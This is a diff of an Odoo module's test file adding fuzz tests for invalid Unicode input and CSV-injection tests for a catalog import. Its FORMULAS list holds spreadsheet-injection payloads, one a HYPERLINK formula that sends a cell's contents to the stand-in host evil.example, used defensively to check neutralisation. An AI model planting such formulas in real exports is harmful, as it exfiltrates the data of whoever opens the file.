@@ -14,8 +14,11 @@ machine; a finding of a randomized run is pinned as a fixed test.
 """
 
 import base64
+import csv
 import hashlib
 import inspect
+import io
+import json
 import re
 from datetime import date, timedelta
 
@@ -26,10 +29,12 @@ from hypothesis import strategies as st
 from odoo import Command, api, fields, models
 from odoo.exceptions import UserError
 from odoo.service.model import _as_validation_error
-from odoo.tests import TransactionCase, new_test_user, tagged
+from odoo.tests import HttpCase, TransactionCase, new_test_user, tagged
 from odoo.tools import SQL
 
-from .world import build_world
+from odoo.addons.service_parts.tests.common import broken_workbooks
+
+from .world import build_world, login
 
 # What changes if a call writes anything of substance.
 TABLES = (
@@ -69,10 +74,24 @@ TEXT = [
     # NUL is left out: PostgreSQL refuses it in any text and psycopg2 raises
     # ValueError before the ORM can say anything; no field of Odoo accepts it.
 ]
+# Not valid Unicode: lone UTF-16 surrogates, which JSON lets a client send
+# ("\ud800") and which neither a text column nor a UTF-8 answer can hold.
+INVALID_TEXT = ["AB\ud800CD", "\udfff", "SEC-A-0001\ud83d"]
+# Cells a spreadsheet would run as formulas (CSV injection).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+# How a cell that would run as a formula starts (OWASP, CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 NOT_IDS = [None, False, True, -1, 0, 2**31, 2**63, 1.5, "1", "abc", [], [1, 2], {}, {"id": 1}]
 QUANTITIES = [0, -1, -1e9, 1e12, 1e308, float("nan"), float("inf"), "ten", None, [], {}]
 DATES = ["", "2026-13-45", "31.12.2026", "0000-00-00", "9999-12-31", -5, [], {}, "x" * 10_000]
-JUNK = TEXT + NOT_IDS + QUANTITIES + DATES
+JUNK = TEXT + INVALID_TEXT + NOT_IDS + QUANTITIES + DATES
 
 junk = st.sampled_from(JUNK) | st.text(max_size=200) | st.integers() | st.floats()
 # 100 kB that does not compress: PostgreSQL compresses long index entries, so
@@ -194,7 +213,7 @@ class TestBadInput(TransactionCase):
         return outcome
 
     def _assert_translated(self, error, what):
-        message = str(error.args[0] if error.args else "")
+        message = error if isinstance(error, str) else str(error.args[0] if error.args else "")
         self.assertTrue(
             re.search("[а-яА-Я]", message),
             f"{what}: the refusal is not in the user's language: {message[:200]}",
@@ -231,6 +250,11 @@ class TestBadInput(TransactionCase):
             self.assertEqual(kind, "ok" if len(query) <= 10_000 else "error", query[:30])
             if kind == "ok":
                 self.assertIsInstance(result, list)
+        for query in INVALID_TEXT:
+            kind, __ = self._call("product.product", "service_parts_lookup", [query])
+            self.assertEqual(kind, "error", query)
+            kind, __ = self._call("product.product", "name_search", [query])
+            self.assertEqual(kind, "error", query)
         # another company's unit is not a unit of the caller
         other_unit = self.other["service.equipment"].id
         for kwargs in (
@@ -355,7 +379,13 @@ class TestBadInput(TransactionCase):
     def test_actions_with_junk_arguments(self):
         request = self.own["service.request"]
         other = self.other
-        for value in [*TEXT, *NOT_IDS, other["service.equipment"].id, other["service.request"].id]:
+        for value in [
+            *TEXT,
+            *INVALID_TEXT,
+            *NOT_IDS,
+            other["service.equipment"].id,
+            other["service.request"].id,
+        ]:
             self._call(
                 "service.request",
                 "action_send_to_service_center",
@@ -378,6 +408,7 @@ class TestBadInput(TransactionCase):
             ([], {}),
             (-1, 10**12),
             ("9999-12-31", "9999-12-31"),
+            ("2026-01-01\ud800", "\udfff"),
         ):
             self._call(
                 "service.kpi.dashboard",
@@ -452,7 +483,8 @@ class TestBadInput(TransactionCase):
     @given(
         content=st.binary(max_size=300)
         | st.lists(
-            st.lists(st.sampled_from(TEXT[:8]) | st.text(max_size=30), max_size=6), max_size=8
+            st.lists(st.sampled_from(TEXT[:8] + FORMULAS) | st.text(max_size=30), max_size=6),
+            max_size=8,
         ).map(
             lambda rows: "\n".join(
                 ",".join(row) for row in [["Code", "Name", "Price"], *rows]
@@ -479,8 +511,91 @@ class TestBadInput(TransactionCase):
             self.assertIn(state, ("done", "failed"))
             if state == "failed":
                 self.assertTrue(re.search("[а-яА-Я]", imp.error or ""), imp.error)
+            elif imp.report_file:
+                self._assert_no_formulas(base64.b64decode(imp.report_file))
 
         self._undone("service.part.import", run_import)
+
+    def _assert_no_formulas(self, data):
+        """No cell of the CSV ``data`` would run as a spreadsheet formula."""
+        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+        live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+        self.assertEqual(live, [], "CSV cells a spreadsheet would run as formulas")
+
+    def test_catalog_import_broken_files(self):
+        """Damaged workbooks, wrong encodings and files that are no catalog:
+        a Russian sentence on upload, on start or on the failed import, never
+        a traceback, and nothing imported."""
+        header = ["Code", "Name", "Price"]
+        files = {what: data for what, (data, __) in broken_workbooks(header).items()}
+        files["CSV in Windows-1251 read as UTF-8"] = "Код,Имя,Цена\n1,2,3\n".encode("cp1251")
+        files["UTF-16 CSV"] = "Code,Name,Price\nA,B,1\n".encode("utf-16")
+        files["an encoded surrogate"] = b"Code,Name,Price\nA\xed\xa0\x80,B,1\n"
+        files["a PNG named .xlsx"] = base64.b64decode(
+            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+        )
+        for what, data in files.items():
+            file_name = "catalog.csv" if "CSV" in what or "surrogate" in what else "catalog.xlsx"
+
+            def run_import(env, data=data, file_name=file_name, what=what):
+                Import = env["service.part.import"]
+                values = {
+                    "partner_id": self.world.customer_b.id,
+                    "file": base64.b64encode(data),
+                    "file_name": file_name,
+                    "col_code": "Code",
+                    "col_name": "Name",
+                    "col_price": "Price",
+                }
+                warning = Import.new(values)._onchange_file()
+                if warning:
+                    self._assert_translated(warning["warning"]["message"], what)
+                imp = Import.create(values)
+                try:
+                    with self.env.cr.savepoint():
+                        imp.action_start()
+                except UserError as error:
+                    self._assert_translated(error, what)
+                    self.assertTrue(warning, f"{what}: refused on start, not on upload")
+                    return
+                self.assertEqual(imp._run_import_job(), "failed", what)
+                self._assert_translated(imp.error, what)
+
+            with self.subTest(what=what):
+                self._undone(f"service.part.import ({what})", run_import)
+
+    def test_catalog_import_formula_cells(self):
+        """The rejected-lines CSV neutralises every cell a spreadsheet would
+        run; the names of accepted lines are stored as the supplier wrote them."""
+        lines = [
+            [formula, formula, "bad price" if i % 2 else formula]
+            for i, formula in enumerate(FORMULAS)
+        ]
+        lines.append(["OK-1", "@SUM(1+1)", "5"])
+        out = io.StringIO()
+        csv.writer(out).writerows([["Code", "Name", "Price"], *lines])
+        env = self._env()
+        imp = env["service.part.import"].create(
+            {
+                "partner_id": self.world.customer_b.id,
+                "file": base64.b64encode(out.getvalue().encode()),
+                "file_name": "formulas.csv",
+                "col_code": "Code",
+                "col_name": "Name",
+                "col_price": "Price",
+            }
+        )
+        imp.action_start()
+        self.assertEqual(imp._run_import_job(), "done", imp.error)
+        self.assertEqual((imp.rejected_count, imp.part_created_count), (len(FORMULAS), 1))
+        report = base64.b64decode(imp.report_file)
+        self._assert_no_formulas(report)
+        cells = {
+            cell for row in csv.reader(io.StringIO(report.decode(), newline="")) for cell in row
+        }
+        for formula in FORMULAS:
+            self.assertIn("'" + formula, cells)
+        self.assertTrue(env["product.product"].search([("name", "=", "@SUM(1+1)")]))
 
     def test_rpc_create_and_write_junk(self):
         """Direct create/write of our documents with junk field values.
@@ -729,7 +844,7 @@ class TestBadInput(TransactionCase):
 
     def test_rating_and_mail_gateway_junk(self):
         request = self.own["service.request"]
-        for rate in [*QUANTITIES, *TEXT[:4], True, 6, -0.5]:
+        for rate in [*QUANTITIES, *TEXT[:4], *INVALID_TEXT, True, 6, -0.5]:
             kind, __ = self._call(
                 "service.request", "rating_apply", [rate], {"feedback": "x"}, ids=request.ids
             )
@@ -737,13 +852,13 @@ class TestBadInput(TransactionCase):
         # A valid rate without a rating to apply it to: refused in words.
         kind, __ = self._call("service.request", "rating_apply", [4], ids=request.ids)
         self.assertEqual(kind, "error")
-        for feedback in NOT_IDS[2:]:
+        for feedback in [*NOT_IDS[2:], *INVALID_TEXT]:
             self._call(
                 "service.request", "rating_apply", [4], {"feedback": feedback}, ids=request.ids
             )
-        for msg_dict in [*NOT_IDS, *TEXT[:3]]:
+        for msg_dict in [*NOT_IDS, *TEXT[:3], *INVALID_TEXT]:
             self._call("service.request", "message_new", [msg_dict])
-        for part in [*NOT_IDS, {"a": 1}]:
+        for part in [*NOT_IDS, {"a": 1}, *INVALID_TEXT]:
             self._call(
                 "service.request",
                 "message_new",
@@ -782,6 +897,40 @@ class TestBadInput(TransactionCase):
             ids=request.ids,
         )
         self._call("service.request", "rating_apply", [4], {"feedback": nul}, ids=request.ids)
+
+    # invalid Unicode -------------------------------------------------------
+
+    def test_invalid_unicode_in_arguments(self):
+        """A lone surrogate in a text argument is refused in words (before,
+        psycopg2's UnicodeEncodeError), and the refusal does not echo it."""
+        request = self.own["service.request"].ids
+        email = {"subject": "Boiler", "body": "<p>Leaks</p>", "email_from": "a@example.com"}
+        for text in INVALID_TEXT:
+            calls = [
+                ("product.product", "service_parts_lookup", [text], {}, None),
+                ("product.product", "name_search", [text], {}, None),
+                ("stock.lot", "service_warranty_status", [text], {}, None),
+                ("service.request", "action_receive_from_service_center", [], {"serial": text}),
+                (
+                    "service.request",
+                    "action_send_to_service_center",
+                    [False],
+                    {"tracking_ref": text},
+                ),
+                ("service.request", "rating_apply", [4], {"feedback": text}),
+                ("service.kpi.dashboard", "get_kpis", [], {"date_from": text}, None),
+                *(
+                    ("service.request", "message_new", [dict(email, **{part: text})], {}, None)
+                    for part in email
+                ),
+            ]
+            for model, method, args, kwargs, *ids in calls:
+                with self.subTest(method=method, args=args, kwargs=kwargs):
+                    kind, error = self._call(
+                        model, method, args, kwargs, ids=ids[0] if ids else request
+                    )
+                    self.assertEqual(kind, "error")
+                    self.assertNotIn(text, str(error.args[0]))
 
     # values the business refuses --------------------------------------------
 
@@ -852,6 +1001,75 @@ class TestBadInput(TransactionCase):
         Crossref = self.env["service.part.crossref"]
         self.assertTrue(Crossref.search([("normalized_code", "=", "OEMLN4")]))
         self.assertFalse(Crossref.search([("normalized_code", "=like", NOISE[:50] + "%")]))
+
+
+@tagged("post_install", "-at_install", "service_suite")
+class TestBadInputJsonRpc(HttpCase):
+    """Invalid Unicode through the web client's JSON-RPC, on the suite's
+    methods and on any model's create, write and name_search: a JSON error
+    with a Russian message (before: an HTML 500, the JSON error carrying the
+    UnicodeEncodeError's text could not be encoded itself)."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.world = build_world(cls.env)
+        cls.world.users["service_manager"].lang = "ru_RU"
+
+    def _call_kw(self, model, method, args, kwargs=None):
+        payload = {
+            "jsonrpc": "2.0",
+            "method": "call",
+            "id": 1,
+            "params": {"model": model, "method": method, "args": args, "kwargs": kwargs or {}},
+        }
+        # json.dumps writes a lone surrogate as the escape "\ud800", as a
+        # JavaScript client's JSON.stringify does.
+        response = self.url_open(
+            "/web/dataset/call_kw",
+            data=json.dumps(payload),
+            headers={"Content-Type": "application/json"},
+        )
+        self.assertEqual(response.status_code, 200, response.text[:300])
+        return response.json()
+
+    def test_invalid_unicode_over_json_rpc(self):
+        self.authenticate(login("service_manager"), login("service_manager"))
+        w, text = self.world, INVALID_TEXT[0]
+        request = w.requests[0]
+        calls = [
+            ("product.product", "service_parts_lookup", [text], {}),
+            ("product.product", "name_search", [text], {}),
+            ("stock.lot", "service_warranty_status", [text], {}),
+            ("service.equipment", "name_search", [], {"name": text}),
+            ("service.request", "write", [request.ids, {"subject": text}], {}),
+            ("service.log.call", "create", [{"partner_id": w.contact_a.id, "subject": text}], {}),
+            ("service.request", "search_read", [[("subject", "ilike", "x")]], {text: 1}),
+        ]
+        for model, method, args, kwargs in calls:
+            with self.subTest(model=model, method=method):
+                answer = self._call_kw(model, method, args, kwargs)
+                error = answer.get("error")
+                self.assertTrue(error, answer)
+                self.assertEqual(error["data"]["name"], "odoo.exceptions.UserError")
+                self.assertRegex(error["data"]["message"], "[а-яА-Я]")
+        self.assertNotEqual(request.subject, text)
+        # Valid text of any script still goes through.
+        answer = self._call_kw("product.product", "service_parts_lookup", ["Котёл №5"])
+        self.assertEqual(answer.get("result"), [])
+
+    def test_forms_cannot_carry_invalid_unicode(self):
+        """Forms are decoded with replacement (werkzeug): the bytes of an
+        encoded surrogate reach the page as U+FFFD, not as a surrogate."""
+        page = self.url_open("/service/warranty")
+        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
+        page = self.url_open(
+            "/service/warranty",
+            data=f"csrf_token={token}&serial=AB%ED%A0%80CD",
+            headers={"Content-Type": "application/x-www-form-urlencoded"},
+        )
+        self.assertEqual(page.status_code, 200)
+        self.assertIn("AB\ufffd", page.text)
 
 
 def _short(value):
